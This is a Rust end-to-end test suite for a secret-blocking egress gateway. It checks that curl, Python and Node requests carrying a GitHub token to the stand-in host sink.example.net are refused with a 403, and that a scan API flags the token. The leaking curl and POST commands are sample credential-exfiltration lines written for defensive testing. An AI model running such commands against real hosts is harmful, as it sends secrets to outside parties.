//! The tools people run, with the environment that `up` prints.

use portcullis_e2e::{Stack, github_pat};

#[tokio::test]
async fn curl_git_python_and_node_work_through_the_gateway() {
    let stack = Stack::start(&[]).await;
    let token = github_pat();
    let url = stack.url("https://sink.example.net/");
    let cases: Vec<(&str, Vec<String>, Vec<String>)> = vec![
        (
            "curl",
            vec!["curl".into(), "-sS".into(), "-f".into(), url.clone()],
            vec!["curl".into(), "-sS".into(), "-f".into(), "-d".into(), format!("t={token}"), url.clone()],
        ),
        ("python", python(&url, "x=1"), python(&url, &format!("x={token}"))),
        ("node", node(&url, "x=1"), node(&url, &format!("x={token}"))),
    ];
    for (name, clean, leaking) in cases {
        let clean = stack.run(&clean).await;
        assert!(clean.status.success(), "{name}: {}", String::from_utf8_lossy(&clean.stderr));
        let denied = stack.run(&leaking).await;
        assert!(!denied.status.success(), "{name} sent a secret");
        let said = [denied.stdout, denied.stderr].concat();
        assert!(String::from_utf8_lossy(&said).contains("403"), "{name}: {}", String::from_utf8_lossy(&said));
    }
    let git = stack.run(&["git".into(), "ls-remote".into(), stack.url("https://sink.example.net/repo.git")]).await;
    // The origin is no git server: git reaches it over the gateway, and says so.
    assert!(stack.origin.requests().iter().any(|r| r.path.starts_with("/repo.git/info/refs")), "{}", String::from_utf8_lossy(&git.stderr));
    assert!(!stack.origin.saw(token.as_bytes()));
}

fn python(url: &str, data: &str) -> Vec<String> {
    let code = "import sys, requests; r = requests.post(sys.argv[1], data=sys.argv[2], timeout=20); print(r.status_code); sys.exit(r.status_code != 200)";
    vec![portcullis_e2e::client_tool("python/bin/python"), "-c".into(), code.into(), url.into(), data.into()]
}

fn node(url: &str, data: &str) -> Vec<String> {
    // Node before 24 reads no proxy variables by itself; undici's agent does.
    let code = "const {EnvHttpProxyAgent, fetch} = require(process.argv[1]); fetch(process.argv[2], {method: 'POST', body: process.argv[3], dispatcher: new EnvHttpProxyAgent()}).then(r => { console.log(r.status); process.exit(r.status === 200 ? 0 : 1) })";
    vec!["node".into(), "-e".into(), code.into(), portcullis_e2e::client_tool("node/node_modules/undici"), url.into(), data.into()]
}

#[tokio::test]
async fn a_client_that_knows_no_proto_file_uses_the_scan_api() {
    let stack = Stack::start(&[]).await;
    let api = stack.gateway.scan_api().expect("an address");
    let client = concat!(env!("CARGO_MANIFEST_DIR"), "/../scan-api/client.py");
    let ask = async |body: String| {
        let script =
            format!("printf %s \"$1\" | {} {client} {api} https://sink.example.net/", portcullis_e2e::client_tool("python/bin/python"));
        let output = stack
            .run(&[
                "env".into(),
                "-u".into(),
                "http_proxy".into(),
                "-u".into(),
                "https_proxy".into(),
                "sh".into(),
                "-c".into(),
                script,
                "sh".into(),
                body,
            ])
            .await;
        (output.status.code(), String::from_utf8_lossy(&output.stdout).into_owned(), String::from_utf8_lossy(&output.stderr).into_owned())
    };
    let token = github_pat();
    let (code, said, errors) = ask(format!("key {token}")).await;
    assert_eq!(code, Some(1), "said {said:?}, errors {errors:?}");
    assert!(said.contains("\"reason\": \"secret_found\"") && said.contains("github-pat-classic") && !said.contains(&token), "{said}");
    let (code, said, errors) = ask("nothing".into()).await;
    assert_eq!(code, Some(0), "{said}{errors}");
    assert!(said.contains("VERDICT_ALLOW"), "{said}");
}
